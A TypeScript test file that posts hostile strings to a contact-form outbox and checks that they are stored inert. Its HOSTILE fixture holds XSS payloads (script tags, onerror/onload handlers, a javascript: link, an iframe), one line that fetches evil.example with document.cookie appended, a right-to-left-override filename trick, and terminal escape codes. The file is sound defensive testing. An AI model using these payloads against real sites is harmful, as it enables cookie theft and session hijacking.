import { afterEach, describe, expect, it } from 'vitest';
import { makeOutbox, payload } from './helpers';

let outbox: Awaited<ReturnType<typeof makeOutbox>>;
afterEach(() => outbox?.cleanup());

// Posted straight to the endpoint, skipping the browser's own sanitising, as an attacker would.
const HOSTILE = {
  name: 'Name: <img src=x onerror="alert(1)">Mallory<svg/onload=alert(2)>',
  email: 'Email: "><script>alert(document.cookie)</script>@evil.example',
  message:
    'Message: <script>fetch("//evil.example/"+document.cookie)</script><a href="javascript:alert(3)" onclick="x()">click</a>' +
    '<iframe src="//evil.example"></iframe><style>body{display:none}</style>' +
    '\u202Egnp.exe\u202C 🙂👩🏽‍💻 \u0000\u001b[2J\u001b[31mred\u0007 Zalgo: Z̷̢̛a̸l̴g̵o̶',
};

describe('hostile strings posted to the outbox', () => {
  it('are stored inert: no tag, attribute or script survives, and control characters are gone', async () => {
    outbox = await makeOutbox();
    const response = await outbox.post(payload(HOSTILE));
    expect(response.status).toBe(200);
    const record = JSON.parse((await outbox.lines())[0]!);
    for (const value of [record.name, record.email, record.message] as string[]) {
      expect(value).not.toMatch(/[<>]/);
      for (const control of ['\u0000', '\u001b', '\u0007']) expect(value).not.toContain(control);
    }
    expect(record.name).toBe('Name: Mallory');
    expect(record.email).toBe('Email: "&gt;@evil.example');
    expect(record.message).not.toMatch(/document\.cookie|display:none/);
    expect(record.message).toContain('click');
    // Unusual but legitimate text is kept as written: bidi controls, emoji, combining marks.
    expect(record.message).toContain('\u202Egnp.exe\u202C 🙂👩🏽‍💻');
    expect(record.message).toContain('Z̷̢̛a̸l̴g̵o̶');
    expect(record.message).toContain('[2J[31mred');
  });

  it('keeps the file one record per line whatever newlines the message holds', async () => {
    outbox = await makeOutbox();
    await outbox.post(payload({ message: 'Message: line one\nline two\r\n\u2028line three' }));
    await outbox.post(payload());
    const lines = await outbox.lines();
    expect(lines).toHaveLength(2);
    expect(JSON.parse(lines[0]!).message).toBe('Message: line one\nline two\r\n\u2028line three');
  });
});
